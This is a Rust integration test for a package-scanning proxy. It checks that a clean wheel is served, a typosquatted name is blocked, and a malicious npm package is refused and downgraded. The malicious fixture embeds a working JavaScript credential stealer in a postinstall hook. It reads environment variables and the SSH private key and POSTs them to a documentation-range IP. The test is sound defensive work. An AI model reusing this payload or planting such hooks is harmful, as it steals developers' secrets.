//! The gate with the real scanner (sluice-archive + sluice-analyze): an
//! artifact is judged on its first fetch and the verdict and evidence are
//! stored by sha256. HTTP only: nothing here installs or runs a package.
#![allow(missing_docs)]

mod common;

use common::{Upstream, start_with, tarball_with, wheel};
use serde_json::{Value, json};
use sluice_model::{Ecosystem, VerdictLevel};

// Inert outside a sandbox: the test never installs or runs it, and the
// address is a documentation range (RFC 5737).
const STEALER: &str = "const os = require('os'); const fs = require('fs'); const https = require('https');\n\
const data = JSON.stringify({env: process.env, key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')});\n\
const req = https.request({hostname: '203.0.113.7', port: 443, path: '/collect', method: 'POST'}); req.write(data); req.end();\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_scanner_judges_on_the_way_in() {
    let up = Upstream {
        py: vec![wheel("plainpkg", "1.0"), wheel("reqeusts", "2.31.0")],
        npm: vec![
            tarball_with(
                "stealer",
                "1.0.0",
                json!({"postinstall": "node index.js"}),
                &[("index.js", STEALER)],
            ),
            tarball_with(
                "stealer",
                "0.1.0",
                json!({}),
                &[("index.js", "module.exports = 1;\n")],
            ),
        ],
        ..Upstream::default()
    };
    let h = start_with(up, |_| {}, None).await;
    let c = reqwest::Client::new();
    // Clean wheel: served, judged clean.
    let r = c
        .get(h.url("/files/pypi/plainpkg/plainpkg-1.0-py3-none-any.whl"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-sluice-verdict"], "clean");
    // A typosquat of a popular name with harmless content: the name check
    // alone keeps it from being served.
    let r = c
        .get(h.url("/files/pypi/reqeusts/reqeusts-2.31.0-py3-none-any.whl"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let arts = h
        .gate
        .store
        .artifacts_of(Ecosystem::PyPI, "reqeusts", None)
        .unwrap();
    assert_ne!(arts[0].verdict, VerdictLevel::Clean);
    let report = h.gate.store.report(&arts[0].sha256).unwrap().unwrap();
    assert!(report.contains("NAME4"), "{report}");
    // Credential stealer with an install hook: refused on its first fetch.
    let r = c
        .get(h.url("/npm/stealer/-/stealer-1.0.0.tgz"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let j: Value = r.json().await.unwrap();
    assert!(j["error"].as_str().unwrap().contains("malicious"), "{j}");
    let arts = h
        .gate
        .store
        .artifacts_of(Ecosystem::Npm, "stealer", Some("1.0.0"))
        .unwrap();
    assert_eq!(arts.len(), 1);
    assert_eq!(arts[0].verdict, VerdictLevel::Malicious);
    // The evidence is stored by sha256.
    let report: Value =
        serde_json::from_str(&h.gate.store.report(&arts[0].sha256).unwrap().unwrap()).unwrap();
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["file"].as_str().unwrap_or("").contains("index.js")
                || f.to_string().contains("index.js")),
        "{report}"
    );
    // The packument now steers resolvers to the safe version.
    let p: Value = c
        .get(h.url("/npm/stealer"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(p["dist-tags"]["latest"], "0.1.0");
    // npm audit sees it.
    let a: Value = c
        .post(h.url("/npm/-/npm/v1/security/advisories/bulk"))
        .json(&json!({"stealer": ["1.0.0"]}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(a["stealer"][0]["severity"], "critical");
}
